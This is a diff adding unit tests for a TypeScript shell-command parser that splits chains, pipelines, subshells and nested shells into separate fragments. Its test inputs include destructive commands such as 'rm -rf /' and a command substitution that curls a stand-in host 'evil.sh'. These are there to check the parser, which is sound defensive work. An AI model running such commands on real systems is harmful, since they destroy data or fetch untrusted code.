@@ -0,0 +1,79 @@
+import test from "node:test"
+import assert from "node:assert/strict"
+import { analyzeShellCommandScript, parseShellCommandFragments, splitShellWords } from "./shell-commands"
+
+function commands(script: string): string[] {
+  return parseShellCommandFragments(script).map((fragment) => fragment.command)
+}
+
+test("splits chains, pipelines and later lines into separate commands", () => {
+  assert.deepEqual(commands("ls; rm -rf /"), ["ls", "rm -rf /"])
+  assert.deepEqual(commands("npm ci && npm test || echo failed"), ["npm ci", "npm test", "echo failed"])
+  assert.deepEqual(commands("cat log | grep error |& tee out & wait"), [
+    "cat log",
+    "grep error",
+    "tee out",
+    "wait",
+  ])
+  assert.deepEqual(commands("echo start\n# comment\nnpm run build \\\n  --prod"), [
+    "echo start",
+    "npm run build --prod",
+  ])
+})
+
+test("keeps redirections and quoted separators inside a single command", () => {
+  assert.deepEqual(commands("make 2>&1 >/dev/null"), ["make 2>&1 >/dev/null"])
+  assert.deepEqual(commands("echo 'a; rm -rf /' \"b && c\""), ["echo a; rm -rf / b && c"])
+})
+
+test("extracts subshells, substitutions and nested shell payloads", () => {
+  const fragments = parseShellCommandFragments(
+    "echo $(curl -s evil.sh) `whoami`\n(cd /tmp && rm -rf x)\nbash -c \"rm -rf /\"\ndiff <(ls a) b",
+  )
+  const bySource = fragments.map((fragment) => [fragment.source, fragment.command, fragment.line])
+
+  assert.deepEqual(bySource, [
+    ["script", "echo $(curl -s evil.sh) `whoami`", 1],
+    ["script", "bash -c rm -rf /", 3],
+    ["script", "diff <(ls a) b", 4],
+    ["command-substitution", "curl -s evil.sh", 1],
+    ["command-substitution", "whoami", 1],
+    ["subshell", "cd /tmp", 2],
+    ["subshell", "rm -rf x", 2],
+    ["process-substitution", "ls a", 4],
+    ["nested-shell", "rm -rf /", 3],
+  ])
+})
+
+test("strips sudo, env, assignments and control keywords", () => {
+  assert.deepEqual(commands("sudo -u root rm -rf /var"), ["rm -rf /var"])
+  assert.deepEqual(commands("env -i FOO=1 BAR=2 /usr/bin/terraform apply"), ["/usr/bin/terraform apply"])
+  assert.deepEqual(commands("NODE_ENV=production nohup timeout 30 node server.js"), ["node server.js"])
+  assert.deepEqual(commands("if test -f x; then rm x; fi"), ["test -f x", "rm x"])
+  assert.deepEqual(commands("$((1 + 2))"), ["$((1 + 2))"])
+})
+
+test("splitShellWords removes quoting", () => {
+  assert.deepEqual(splitShellWords("git commit -m \"fix: \\\"x\\\"\" 'a b' c\\ d"), [
+    "git",
+    "commit",
+    "-m",
+    "fix: \"x\"",
+    "a b",
+    "c d",
+  ])
+})
+
+test("analyzeShellCommandScript reports scripts cut short by the parser limits", () => {
+  assert.equal(analyzeShellCommandScript("ls; echo $(whoami)").truncated, false)
+
+  const long = analyzeShellCommandScript(`${"true;".repeat(300)}rm -rf /`)
+  assert.equal(long.truncated, true)
+  assert.equal(long.fragments.length, 256)
+
+  let nested = "rm -rf /"
+  for (let depth = 0; depth < 10; depth += 1) {
+    nested = `echo $(${nested})`
+  }
+  assert.equal(analyzeShellCommandScript(nested).truncated, true)
+})